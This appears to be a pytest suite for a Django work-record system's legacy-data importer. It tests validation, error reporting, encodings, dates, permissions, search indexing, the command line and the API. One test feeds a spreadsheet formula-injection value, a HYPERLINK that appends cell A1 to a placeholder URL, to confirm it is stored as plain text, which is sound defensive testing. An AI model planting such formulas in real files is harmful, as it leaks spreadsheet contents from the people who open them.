"""Importing records from an earlier system: all or nothing, every bad row named, the same file never twice."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from jishi.core.models import AuditEvent
from jishi.records.imports import EXAMPLE, ImportFileError, import_records, template
from jishi.records.models import ImportBatch, RecordVersion, WorkRecord
from jishi.testing import Org, write_record

HEADERS = list(EXAMPLE)


def row(**values: str) -> dict[str, str]:
    base = dict(EXAMPLE)
    base.update(
        {"工号": "E-AUTHOR", "职责编码": "", "日期": "2025-03-05", "提交时间": "2025-03-05 17:42"}
        | {"参与人员": "", "合作单位": ""}
    )
    base.update(values)
    return base


def to_csv(rows: list[dict[str, str]], *, encoding: str = "utf-8-sig", headers: list[str] | None = None) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers or HEADERS)
    for r in rows:
        writer.writerow([r.get(h, "") for h in headers or HEADERS])
    return buffer.getvalue().encode(encoding)


@pytest.fixture
def people(org: Org) -> Org:
    org.author.employee_number = "E-AUTHOR"
    org.author.save()
    org.colleague.employee_number = "E-COLLEAGUE"
    org.colleague.save()
    return org


def test_a_good_file_imports_locked_marked_and_with_original_times(people: Org) -> None:
    data = to_csv(
        [
            row(),
            row(
                工号="E-COLLEAGUE",
                日期="2025-03-06",
                提交时间="2025-03-07 09:15",
                开始="",
                结束="",
                **{"时长（分钟）": "90"},
            ),
        ]
    )
    report = import_records(actor=people.admin, data=data, filename="old.csv")
    assert report.ok and report.imported == 2
    record = WorkRecord.objects.get(author=people.author)
    assert timezone.localtime(record.submitted_at).strftime("%Y-%m-%d %H:%M") == "2025-03-05 17:42"
    assert record.is_locked and record.import_batch == report.batch and record.unit == people.budget
    late = WorkRecord.objects.get(author=people.colleague)
    assert late.is_late and late.duration_minutes == 90
    version = RecordVersion.objects.get(record=record)
    assert version.changed_by == people.admin and version.changed_at > record.submitted_at
    assert AuditEvent.objects.filter(verb="records.import", actor=people.admin).exists()


def test_any_bad_row_imports_nothing_and_every_bad_row_is_reported(people: Org) -> None:
    rows = [
        row(),
        row(工号="NOBODY"),
        row(日期="2014-13-45"),
        row(类别="开会"),
        row(工作内容="会议"),
        row(开始="11:00", 结束="10:00", 日期="2025-03-04"),
        row(可见范围="全世界"),
        row(提交时间="昨天"),
        row(开始="09:30", 结束="10:00"),  # overlaps the first row
    ]
    report = import_records(actor=people.admin, data=to_csv(rows), filename="bad.csv")
    assert not report.ok and report.imported == 0
    found = {(e.row, e.column) for e in report.errors}
    assert {
        (3, "工号"),
        (4, "日期"),
        (5, "类别"),
        (6, "工作内容"),
        (8, "可见范围"),
        (9, "提交时间"),
        (10, "开始"),
    } <= found
    assert any(e.row == 7 for e in report.errors)
    assert all(e.message for e in report.errors)
    assert not WorkRecord.objects.exists() and not ImportBatch.objects.exists()


def test_dry_run_writes_nothing_and_the_same_file_never_imports_twice(people: Org) -> None:
    data = to_csv([row()])
    assert import_records(actor=people.admin, data=data, filename="a.csv", dry_run=True).ok
    assert not WorkRecord.objects.exists()
    import_records(actor=people.admin, data=data, filename="a.csv")
    with pytest.raises(ImportFileError, match="不会重复导入"):
        import_records(actor=people.admin, data=data, filename="a-copy.csv")
    assert WorkRecord.objects.count() == 1


def test_gbk_csv_from_old_excel_and_xlsx_templates_import(people: Org) -> None:
    assert import_records(actor=people.admin, data=to_csv([row()], encoding="gbk"), filename="gbk.csv").imported == 1
    xlsx = template("xlsx")
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx))
    sheet = book.active
    column = {cell.value: cell.column_letter for cell in sheet[1]}
    sheet[f"{column['工号']}2"] = "E-COLLEAGUE"
    sheet[f"{column['日期']}2"] = "2025-03-05"
    sheet[f"{column['提交时间']}2"] = "2025-03-05 17:42"
    sheet[f"{column['参与人员']}2"] = "E-AUTHOR"
    sheet[f"{column['合作单位']}2"] = ""
    out = io.BytesIO()
    book.save(out)
    assert import_records(actor=people.admin, data=out.getvalue(), filename="t.xlsx").imported == 1
    english = to_csv([row()], headers=HEADERS)
    english = english.replace("工号".encode(), b"employee_number").replace("日期".encode(), b"date", 1)
    report = import_records(actor=people.admin, data=english, filename="en.csv", dry_run=True)
    assert not any("无法识别的列" in e.message for e in report.errors)


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "x.csv", "文件是空的"),
        (b"hello", "x.pdf", "只支持"),
        (b"PK\x03\x04broken", "x.xlsx", "不是有效的 Excel"),
        (b"\xff\xfe\x00\x00\x81", "x.csv", "CSV"),
        ("姓名,年龄\n张三,3\n".encode(), "x.csv", "缺少必填列"),
        ("工号,日期,类别,工作内容,提交时间,开始,结束\n".encode(), "x.csv", "没有数据行"),
    ],
)
def test_malformed_files_get_a_clear_error(people: Org, data: bytes, filename: str, message: str) -> None:
    with pytest.raises(ImportFileError, match=message):
        import_records(actor=people.admin, data=data, filename=filename)


def test_huge_files_are_refused(people: Org, monkeypatch: Any) -> None:
    import jishi.records.imports as imports

    monkeypatch.setattr(imports, "MAX_BYTES", 100)
    with pytest.raises(ImportFileError, match="文件过大"):
        import_records(actor=people.admin, data=to_csv([row(), row()]), filename="big.csv")


def test_only_administrators_and_hr_import(people: Org) -> None:
    with pytest.raises(PermissionDenied):
        import_records(actor=people.unit_head, data=to_csv([row()]), filename="a.csv")
    assert import_records(actor=people.hr, data=to_csv([row()]), filename="a.csv", dry_run=True).ok
    client = Client()
    client.force_login(people.unit_head)
    assert client.get("/records/import/").status_code == 403


def test_the_page_and_the_command_line(people: Org, tmp_path: Any) -> None:
    client = Client()
    client.force_login(people.admin)
    assert client.get("/records/import/template.csv").content.decode("utf-8-sig").startswith("工号,日期")
    from django.core.files.uploadedfile import SimpleUploadedFile

    page = client.post("/records/import/", {"file": SimpleUploadedFile("bad.csv", to_csv([row(工号="NOBODY")]))})
    assert "工号“NOBODY”不存在" in page.content.decode()
    assert client.post("/records/import/", {}).content.decode().count("请选择要导入的文件") == 1
    path = tmp_path / "ok.csv"
    path.write_bytes(to_csv([row()]))
    call_command("import", "records", str(path), "--by", "admin", "--dry-run")
    assert not WorkRecord.objects.exists()
    call_command("import", "records", str(path), "--by", "admin")
    assert WorkRecord.objects.count() == 1
    bad = tmp_path / "bad.csv"
    bad.write_bytes(to_csv([row(工号="NOBODY")]))
    with pytest.raises(CommandError, match="未导入任何记录"):
        call_command("import", "records", str(bad), "--by", "admin")
    with pytest.raises(CommandError, match="找不到文件"):
        call_command("import", "records", str(tmp_path / "none.csv"), "--by", "admin")
    with pytest.raises(CommandError, match="只有系统管理员"):
        call_command("import", "records", str(bad), "--by", "unit_head")


def test_overnight_duty_needs_the_next_day_column(people: Org) -> None:
    night = row(类别="值班", 开始="20:00", 结束="08:00", 工作内容="夜间值班，处置防汛相关突发情况两起并报送值班信息")
    report = import_records(actor=people.admin, data=to_csv([night]), filename="n1.csv", dry_run=True)
    assert [e.column for e in report.errors] == ["结束"]
    night["次日结束"] = "是"
    night["提交时间"] = "2025-03-06 08:20"
    report = import_records(actor=people.admin, data=to_csv([night]), filename="n2.csv")
    assert report.ok and WorkRecord.objects.get().duration_minutes == 12 * 60


def test_imported_records_are_found_by_search_and_a_stale_entry_under_a_new_id_is_replaced(people: Org) -> None:
    from django.db import connection

    from jishi.search.selectors import search_records
    from jishi.search.terms import index_text, tsvector_literal

    next_id = (WorkRecord.objects.order_by("-pk").values_list("pk", flat=True).first() or 0) + 1
    stale = index_text("旧系统残留的索引条目")  # an entry left under the id the import will take
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO search_entry (rowid, terms) VALUES (%s, %s)",
            [next_id, tsvector_literal(stale) if connection.vendor == "postgresql" else stale],
        )
    data = to_csv([row(工作内容="研究鲈鱼养殖补贴的发放办法，形成初步意见")])
    report = import_records(actor=people.admin, data=data, filename="search.csv")
    assert report.ok and report.imported == 1
    record = WorkRecord.objects.get(author=people.author)
    assert [hit.record.pk for hit in search_records(user=people.author, text="鲈鱼养殖").hits] == [record.pk]
    assert not search_records(user=people.admin, text="残留").hits


def test_every_imported_record_is_indexed_across_chunk_boundaries(people: Org, monkeypatch: Any) -> None:
    from jishi.search import services
    from jishi.search.selectors import search_records

    monkeypatch.setattr(services, "CHUNK", 2)  # five records: chunks of 2, 2 and 1
    days = ["2025-03-03", "2025-03-04", "2025-03-05", "2025-03-06", "2025-03-07"]
    data = to_csv(
        [row(日期=day, 提交时间=f"{day} 18:00", 工作内容=f"核对鲈鱼养殖补贴台账第{n}册") for n, day in enumerate(days)]
    )
    report = import_records(actor=people.admin, data=data, filename="chunks.csv")
    assert report.ok and report.imported == 5
    found = {hit.record.pk for hit in search_records(user=people.author, text="鲈鱼养殖").hits}
    assert found == set(WorkRecord.objects.filter(author=people.author).values_list("pk", flat=True))
    assert len(found) == 5


def test_participants_by_employee_number_and_partner_units_by_code(people: Org) -> None:
    good = row(参与人员="E-COLLEAGUE、sibling", 合作单位="MZJ；CZJ-2/李明")
    report = import_records(actor=people.admin, data=to_csv([good]), filename="p.csv")
    assert report.ok, report.errors
    record = WorkRecord.objects.get()
    parties = {(p.person_id, p.unit_id, p.contact_name) for p in record.participants.all()}
    assert parties == {
        (people.colleague.pk, None, ""),
        (people.sibling.pk, None, ""),  # an account without a 工号, by its username
        (None, people.civil.pk, ""),
        (None, people.treasury.pk, "李明"),
    }
    assert len(RecordVersion.objects.get(record=record).data["participants"]) == 4  # in the history too


def test_unknown_participants_and_the_author_as_participant_are_row_errors(people: Org) -> None:
    rows = [
        row(参与人员="NOBODY"),
        row(参与人员="E-AUTHOR", 日期="2025-03-04", 提交时间="2025-03-04 18:00"),
        row(合作单位="NOWHERE/王五", 日期="2025-03-03", 提交时间="2025-03-03 18:00"),
        row(合作单位="MZJ/" + "长" * 51, 日期="2025-03-06", 提交时间="2025-03-06 18:00"),
    ]
    report = import_records(actor=people.admin, data=to_csv(rows), filename="bad-p.csv")
    found = {(e.row, e.column): e.message for e in report.errors}
    assert "NOBODY" in found[(2, "参与人员")] and "记录人本人" in found[(3, "参与人员")]
    assert "NOWHERE" in found[(4, "合作单位")] and "50" in found[(5, "合作单位")]
    assert not WorkRecord.objects.exists()


@pytest.mark.parametrize(
    ("values", "column", "message"),
    [
        ({"提交时间": "2099-01-01 09:00"}, "提交时间", "晚于现在"),
        ({"提交时间": "2025-03-05 10:00"}, "提交时间", "早于工作结束"),  # the work ran 09:00–10:30
        ({"开始": "00:00", "结束": "23:59"}, "开始", "全天"),
        ({"开始": "00:00", "结束": "00:00", "次日结束": "是"}, "开始", "全天"),
    ],
)
def test_submission_times_that_cannot_be_true_and_whole_day_placeholders_are_refused(
    people: Org, values: dict[str, str], column: str, message: str
) -> None:
    report = import_records(actor=people.admin, data=to_csv([row(**values)]), filename="t.csv", dry_run=True)
    assert [(e.column, message in e.message) for e in report.errors] == [(column, True)]


def test_dates_and_times_are_read_by_one_parser_in_every_column(people: Org) -> None:
    rows = [
        row(日期="2025/3/5", 开始="9:00", 结束="10：30", 提交时间="2025/3/5 17:42"),
        row(日期="2025年3月6日", 开始="9时", 结束="10点30分", 提交时间="2025年3月6日 17:42"),
        row(日期="2025.3.7", 开始="09:00:00", 结束="10:30:00", 提交时间="2025-03-07T17:42:00"),
    ]
    report = import_records(actor=people.admin, data=to_csv(rows), filename="forms.csv")
    assert report.ok, report.errors
    submitted = sorted(timezone.localtime(r.submitted_at) for r in WorkRecord.objects.all())
    assert [f"{s:%Y-%m-%d %H:%M}" for s in submitted] == ["2025-03-05 17:42", "2025-03-06 17:42", "2025-03-07 17:42"]
    assert {r.duration_minutes for r in WorkRecord.objects.all()} == {90}


def test_bare_digits_in_a_text_date_are_refused_not_read_as_a_day_in_1905(people: Org) -> None:
    from jishi.core.tables import parse_date, parse_when

    for typed in ("2026", "12", "1102", "261102"):
        with pytest.raises(ValueError):
            parse_date(typed)
    assert parse_when("0.375") == (None, datetime.time(9, 0))  # Excel's fraction of a day, as text
    report = import_records(actor=people.admin, data=to_csv([row(日期="2026")]), filename="year.csv")
    assert not report.ok and WorkRecord.objects.count() == 0
    assert any("日期" in str(error) for error in report.errors)


def test_excel_date_time_cells_and_serial_numbers_import(people: Org) -> None:
    import datetime

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    cells = {**row(), "日期": datetime.datetime(2025, 3, 5), "开始": datetime.time(9, 0), "结束": 0.4375}
    cells["提交时间"] = datetime.datetime(2025, 3, 5, 17, 42)
    sheet.append([cells[h] for h in HEADERS])
    serial = {**row(), "日期": 45722, "提交时间": 45722.75, "开始": "", "结束": "", "时长（分钟）": 30}  # 2025-03-06
    sheet.append([serial[h] for h in HEADERS])
    out = io.BytesIO()
    book.save(out)
    report = import_records(actor=people.admin, data=out.getvalue(), filename="cells.xlsx")
    assert report.ok, report.errors
    timed = WorkRecord.objects.get(duration_minutes=90)
    assert f"{timezone.localtime(timed.end_at):%Y-%m-%d %H:%M}" == "2025-03-05 10:30"
    untimed = WorkRecord.objects.get(duration_minutes=30)
    assert str(untimed.date) == "2025-03-06"
    assert f"{timezone.localtime(untimed.submitted_at):%H:%M}" == "18:00"


def test_a_date_with_a_time_in_the_date_column_and_a_moment_without_a_time_are_refused(people: Org) -> None:
    rows = [row(日期="2025-03-05 12:00"), row(提交时间="2025-03-05", 日期="2025-03-04")]
    report = import_records(actor=people.admin, data=to_csv(rows), filename="strict.csv", dry_run=True)
    assert {(e.row, e.column) for e in report.errors} == {(2, "日期"), (3, "提交时间")}


def test_the_report_counts_late_entries_non_working_days_and_rows_before_the_first_post(people: Org) -> None:
    from jishi.org.models import Assignment

    Assignment.objects.filter(person=people.colleague).update(start=datetime_date("2025-03-01"))
    rows = [
        row(),  # Wednesday, filed the same day
        row(日期="2025-03-03", 提交时间="2025-03-04 09:00"),  # 补记, one day late
        row(日期="2025-03-04", 提交时间="2025-03-20 09:00"),  # 补记 beyond the 7-day window
        row(日期="2025-03-08", 提交时间="2025-03-08 18:00"),  # a Saturday
    ]
    report = import_records(actor=people.admin, data=to_csv(rows), filename="tally.csv", dry_run=True)
    assert report.ok, report.errors
    assert report.tallies["补记（提交晚于工作当天）"] == 2 and report.tallies["其中超过 7 天补记期限"] == 1
    assert report.tallies["非工作日（节假日、周末）"] == 1
    early = row(工号="E-COLLEAGUE", 日期="2025-02-20", 提交时间="2025-02-20 18:00")
    report = import_records(actor=people.admin, data=to_csv([*rows, early]), filename="early.csv", dry_run=True)
    assert [(e.row, "任职日期" in e.message) for e in report.errors] == [(6, True)]
    assert report.tallies["早于任职日期（未导入）"] == 1


def datetime_date(value: str):  # type: ignore[no-untyped-def]
    import datetime

    return datetime.date.fromisoformat(value)


SHORT = "开会"  # fails the substance rule, as much legacy content does


def test_legacy_content_is_imported_only_when_asked_and_marked(people: Org, tmp_path: Any) -> None:
    rows = [row(工作内容=SHORT), row(日期="2025-03-04", 提交时间="2025-03-04 18:00")]
    refused = import_records(actor=people.admin, data=to_csv(rows), filename="legacy.csv", dry_run=True)
    assert [(e.row, e.column) for e in refused.errors] == [(2, "工作内容")]
    empty = import_records(actor=people.admin, data=to_csv([row(工作内容=" ")]), filename="e.csv", legacy_content=True)
    assert [e.column for e in empty.errors] == ["工作内容"]  # the option spares short content, never empty content
    path = tmp_path / "legacy.csv"
    path.write_bytes(to_csv(rows))
    with pytest.raises(CommandError, match="未导入任何记录"):
        call_command("import", "records", str(path), "--by", "admin")
    call_command("import", "records", str(path), "--by", "admin", "--legacy-content")
    legacy = WorkRecord.objects.get(content=SHORT)
    assert legacy.legacy_content and not WorkRecord.objects.exclude(pk=legacy.pk).get().legacy_content
    with pytest.raises(CommandError, match="只用于导入记实"):
        call_command("import", "units", str(path), "--by", "admin", "--legacy-content")


def test_the_page_offers_legacy_content_and_shows_the_counts(people: Org) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = Client()
    client.force_login(people.admin)
    page = client.get("/records/import/").content.decode()
    assert 'name="legacy_content"' in page and "需要先登录" in page
    assert 'name="legacy_content"' not in client.get("/records/import/?kind=units").content.decode()
    data = to_csv([row(工作内容=SHORT)])
    refused = client.post("/records/import/", {"file": SimpleUploadedFile("l.csv", data)}).content.decode()
    assert "内容过于简单" in refused and not WorkRecord.objects.exists()
    done = client.post("/records/import/", {"file": SimpleUploadedFile("l.csv", data), "legacy_content": "1"})
    assert "已导入 1 条记实" in done.content.decode() and "补记（提交晚于工作当天）" in done.content.decode()
    assert WorkRecord.objects.get().legacy_content


def test_the_record_page_names_its_import(people: Org) -> None:
    report = import_records(
        actor=people.admin, data=to_csv([row(工作内容=SHORT)]), filename="旧系统.csv", legacy_content=True
    )
    record = WorkRecord.objects.get()
    client = Client()
    client.force_login(people.author)
    page = client.get(f"/records/{record.pk}/").content.decode()
    when = f"{timezone.localtime(report.batch.imported_at):%Y-%m-%d %H:%M}"
    assert f"旧系统.csv，由 郭刚 于 {when} 导入" in page and "旧系统内容" in page
    own = write_record(people.author)
    assert 'id="record-import"' not in client.get(f"/records/{own.pk}/").content.decode()


def test_import_help_lists_every_kinds_columns_from_the_importers_declarations() -> None:
    from django.core.management import load_command_class

    from jishi.records.imports import KINDS

    text = load_command_class("jishi.records", "import").create_parser("jishi", "import").format_help()
    for name, kind in KINDS.items():
        assert f"{name}（" in text
        for header in kind.sheet.headers:  # the very headers the importer reads, not a copy
            assert f"  {header}" in text, (name, header)
    assert "  合作单位：单位代码" in text and "--legacy-content" in text


def test_formula_like_text_imports_as_text(people: Org) -> None:
    escaped = row(工作内容='\'=HYPERLINK("http://x"&A1,"点")与国库科核对预算执行进度', 地点="'abc")
    report = import_records(actor=people.admin, data=to_csv([escaped]), filename="f.csv")
    assert report.ok, report.errors
    record = WorkRecord.objects.get()
    assert record.content.startswith('=HYPERLINK("http://x"') and record.place == "'abc"  # only Jishi's escape goes


def test_template_links_need_a_login(people: Org) -> None:
    for what in ("records", "units", "people"):
        response = Client().get(f"/records/import/{what}/template.xlsx")
        assert response.status_code == 302 and "login" in response["Location"]


def test_organisation_imports_take_formula_like_text_as_text(people: Org) -> None:
    from jishi.org.models import Unit
    from jishi.records.org_imports import import_units

    data = "单位代码,单位名称,类型,上级单位代码\nCZJ-9,'=1+2 专项组,科室,CZJ\n".encode()
    report = import_units(actor=people.admin, data=data, filename="units.csv")
    assert report.ok, report.errors
    assert Unit.objects.get(code="CZJ-9").name == "=1+2 专项组"


def test_the_api_detail_names_the_import_and_marks_legacy_content(people: Org) -> None:
    from jishi.accounts.services import token_create

    data = to_csv([row(工作内容=SHORT)])
    report = import_records(actor=people.admin, data=data, filename="旧.csv", legacy_content=True)
    record = WorkRecord.objects.get()
    _, secret = token_create(person=people.author, name="x")
    api = Client(HTTP_AUTHORIZATION=f"Bearer {secret}")
    body = api.get(f"/api/v1/records/{record.pk}").json()
    assert body["legacy_content"] is True
    assert body["imported"]["filename"] == "旧.csv" and body["imported"]["imported_by"]["name"] == "郭刚"
    assert body["imported"]["imported_at"].startswith(f"{timezone.localtime(report.batch.imported_at):%Y-%m-%dT%H:%M}")
    own = write_record(people.author)
    assert api.get(f"/api/v1/records/{own.pk}").json()["imported"] is None
